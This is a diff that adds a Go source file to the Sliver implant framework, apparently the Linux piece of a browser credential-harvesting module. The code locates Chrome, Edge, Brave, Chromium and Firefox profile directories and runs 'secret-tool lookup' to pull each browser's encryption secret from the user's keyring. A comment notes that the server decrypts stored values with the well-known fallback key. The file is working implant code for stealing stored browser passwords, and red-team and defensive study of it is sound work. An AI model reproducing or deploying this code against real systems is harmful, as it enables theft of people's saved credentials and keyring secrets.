@@ -0,0 +1,66 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+func chromiumBrowsers() []chromiumBrowser {
+	config := os.Getenv("XDG_CONFIG_HOME")
+	if config == "" {
+		config = filepath.Join(homeDir(), ".config")
+	}
+	return []chromiumBrowser{
+		{name: "chrome", userData: filepath.Join(config, "google-chrome"), keyName: "chrome"},
+		{name: "edge", userData: filepath.Join(config, "microsoft-edge"), keyName: "microsoft-edge"},
+		{name: "brave", userData: filepath.Join(config, "BraveSoftware", "Brave-Browser"), keyName: "brave"},
+		{name: "chromium", userData: filepath.Join(config, "chromium"), keyName: "chromium"},
+	}
+}
+
+func firefoxProfileDirs() []string {
+	home := homeDir()
+	return []string{
+		filepath.Join(home, ".mozilla", "firefox"),
+		filepath.Join(home, "snap", "firefox", "common", ".mozilla", "firefox"),
+	}
+}
+
+// chromiumSecret - The password from the Secret Service keyring (GNOME keyring,
+// KeePassXC, ...), browsers without a keyring only use "v10" values, which
+// the server decrypts with the well known fallback key
+func chromiumSecret(browser chromiumBrowser) ([]byte, error) {
+	output, err := exec.Command("secret-tool", "lookup", "application", browser.keyName).Output()
+	if err != nil {
+		return nil, err
+	}
+	return []byte(strings.TrimRight(string(output), "\r\n")), nil
+}
+
+func homeDir() string {
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return os.Getenv("HOME")
+	}
+	return home
+}